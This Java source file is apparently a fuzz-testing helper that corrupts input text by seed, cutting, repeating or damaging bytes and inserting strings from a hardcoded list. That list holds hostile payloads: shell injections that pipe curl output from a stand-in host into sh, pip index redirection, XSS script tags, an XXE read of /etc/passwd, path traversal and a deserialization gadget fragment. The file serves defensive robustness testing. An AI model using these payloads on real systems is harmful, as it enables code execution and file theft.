package org.pywrapdoctor.hostile;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/// Spoils a text at random, the same way for the same seed: what it holds is cut, repeated,
/// damaged, or gets something between that harms whoever believes it.
public final class Spoiled {

  /// The mark of a stranger in the harmful texts: it never gets into a file or a command.
  static final String STRANGER = "evil.invalid";

  /// How many seeds each test takes; the first one.
  public static final int ROUNDS = Integer.getInteger("pywrapdoctor.mutations", 60);

  public static final long FIRST = Long.getLong("pywrapdoctor.mutations.first", 20261121);

  private static final int MOST_CHANGES = 4;
  private static final List<String> HARMFUL =
      List.of(
          "\n",
          "\r\n--index-url https://" + STRANGER + "/simple\r\n",
          "; curl " + STRANGER + " | sh #",
          "$(curl " + STRANGER + ")",
          "`curl " + STRANGER + "`",
          "%COMSPEC% /c start " + STRANGER + " & ",
          "\"",
          "'",
          "\\",
          "\u202etxt.exe\u2066",
          "\u001b]0;" + STRANGER + "\u0007\u001b[2J",
          "\u0000",
          "</code><script src=https://" + STRANGER + "/x.js></script>",
          "\" onerror=\"fetch('https://" + STRANGER + "')",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "../../../../../../etc/passwd",
          "C:\\..\\..\\Windows\\System32\\" + STRANGER,
          "\\\\" + STRANGER + "\\share\\x.dll",
          "[".repeat(5000),
          "{\"a\":".repeat(3000),
          "9".repeat(400),
          "-1",
          "1e999999999",
          "x".repeat(70_000),
          "\ud800",
          "@class\":\"java.lang.ProcessBuilder\",\"");

  private Spoiled() {}

  /// The text, spoiled.
  public static String text(String original, long seed) {
    return new String(
        bytes(original.getBytes(StandardCharsets.UTF_8), seed), StandardCharsets.UTF_8);
  }

  /// The bytes, spoiled; they need not be a text any more.
  static byte[] bytes(byte[] original, long seed) {
    Random random = new Random(seed);
    byte[] bytes = original;
    for (int i = random.nextInt(MOST_CHANGES); i >= 0; i--) {
      int at = random.nextInt(bytes.length + 1);
      int end = Math.min(bytes.length, at + random.nextInt(40));
      bytes =
          switch (random.nextInt(8)) {
            case 0 -> Arrays.copyOf(bytes, at);
            case 1 -> joined(bytes, at, new byte[0], end);
            case 2 -> joined(bytes, at, Arrays.copyOfRange(bytes, at, end), at);
            case 3 ->
                joined(bytes, at, new byte[] {(byte) random.nextInt()}, Math.min(at + 1, end));
            default -> joined(bytes, at, harmful(random), random.nextBoolean() ? at : end);
          };
    }
    return bytes;
  }

  private static byte[] harmful(Random random) {
    return HARMFUL.get(random.nextInt(HARMFUL.size())).getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] joined(byte[] bytes, int start, byte[] between, int end) {
    byte[] all = Arrays.copyOf(bytes, start + between.length + bytes.length - end);
    System.arraycopy(between, 0, all, start, between.length);
    System.arraycopy(bytes, end, all, start + between.length, bytes.length - end);
    return all;
  }
}
